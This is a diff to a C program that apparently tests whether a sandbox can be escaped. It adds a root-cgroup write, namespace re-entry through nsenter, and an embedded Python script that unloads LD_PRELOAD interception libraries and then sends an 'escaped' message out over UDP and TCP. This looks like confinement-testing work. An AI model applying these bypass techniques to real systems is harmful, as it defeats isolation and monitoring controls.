@@ -194,11 +194,13 @@ static void join_below(const char *root)
 {
 	static const char *const FILES[] = {"cgroup.procs", "cgroup.threads", "tasks"};
 	static char mounts[MOST_MOUNTS][LONGEST_PLACE];
+	/* The root too: version 1 has no group outside but that. */
+	const char *const groups[] = {".", group};
 	int count = cgroup_mounts(mounts, 0);
-	for (int i = 0; i < count; i++)
+	for (int i = 0; i < 2 * count; i++)
 		for (int j = 0; j < 3; j++) {
 			char path[2 * PATH_MAX];
-			snprintf(path, sizeof path, "%.999s%.255s/%.999s/%s", root, mounts[i], group, FILES[j]);
+			snprintf(path, sizeof path, "%.999s%.255s/%.999s/%s", root, mounts[i / 2], groups[i % 2], FILES[j]);
 			write_text(path, "0");
 		}
 }
@@ -330,10 +332,26 @@ static enum result others_root_as_user(int port)
 	return send_outside(port);
 }
 
+static void execute(const char *command);
+
+/* By the program that administrators use. */
+static void enter_by_nsenter(int port)
+{
+	char own[PATH_MAX] = "", command[2 * PATH_MAX], address4[INET_ADDRSTRLEN], address6[INET6_ADDRSTRLEN];
+	if (readlink("/proc/self/exe", own, sizeof own - 1) < 0)
+		return;
+	inet_ntop(AF_INET, &peer4.sin_addr, address4, sizeof address4);
+	inet_ntop(AF_INET6, &peer6.sin6_addr, address6, sizeof address6);
+	snprintf(command, sizeof command, "exec nsenter --target %d --all -- '%s' try %s %s %s %d %d - cgroup-write:%d",
+		 helper, own, address4, address6, group, helper, nobodys, port);
+	execute(command);
+}
+
 static enum result enter_namespaces(int port)
 {
 	static const char *const NAMES[] = {"user", "mnt", "cgroup", "net"};
 	char path[64];
+	enter_by_nsenter(port);
 	int all = (int)syscall(SYS_pidfd_open, helper, 0);
 	setns(all, CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWCGROUP);
 	for (int i = 0; i < 4; i++) {
@@ -837,6 +855,34 @@ static enum result from_memory(int port)
 	return ABSENT;
 }
 
+/* A dynamic program, which takes the library that is preloaded out of its memory as far as that goes, and calls what is behind it. */
+static enum result unload(int port)
+{
+	static const char SCRIPT[] =
+		"import _ctypes, ctypes, os, socket, struct, sys, time\n"
+		"port, libc = int(sys.argv[2]), ctypes.CDLL(\"libc.so.6\")\n"
+		"sockets = [socket.socket(socket.AF_INET, type) for type in (socket.SOCK_DGRAM, socket.SOCK_STREAM)]\n"
+		"for s in sockets: s.setblocking(False)\n"
+		"own = struct.pack(\"=H\", 2) + struct.pack(\"!H\", port - 10000) + bytes(12)\n"
+		"peer = struct.pack(\"=H\", 2) + struct.pack(\"!H\", port) + socket.inet_aton(sys.argv[1]) + bytes(8)\n"
+		"for library in os.environ.pop(\"LD_PRELOAD\", \"\").split():\n"
+		"    try:\n"
+		"        handle = ctypes.CDLL(library)._handle\n"
+		"        for i in range(3): _ctypes.dlclose(handle)\n"
+		"    except OSError: pass\n"
+		"for s in sockets:\n"
+		"    libc.bind(s.fileno(), own, 16)\n"
+		"    libc.connect(s.fileno(), peer, 16)\n"
+		"    libc.send(s.fileno(), b\"escaped\", 7, 0)\n"
+		"time.sleep(0.05)\n"
+		"os._exit(0)\n";
+	char command[sizeof SCRIPT + 128], address[INET_ADDRSTRLEN];
+	inet_ntop(AF_INET, &peer4.sin_addr, address, sizeof address);
+	snprintf(command, sizeof command, "exec python3 -c '%s' %s %d", SCRIPT, address, port);
+	execute(command);
+	return DONE;
+}
+
 #ifdef __x86_64__
 /* The calls of a 32-bit program, which take addresses below 4 GiB: those of a static program are. */
 static long call32(long number, const void *a, const void *b, long c)
@@ -913,6 +959,7 @@ static const struct attempt {
 	{"reconnect", reconnect},
 	{"race", race},
 	{"from-memory", from_memory},
+	{"unload", unload},
 	{"32-bit", by_32_bit_calls},
 	{"detach", detach_programs},
 	{"flush", flush_rules},
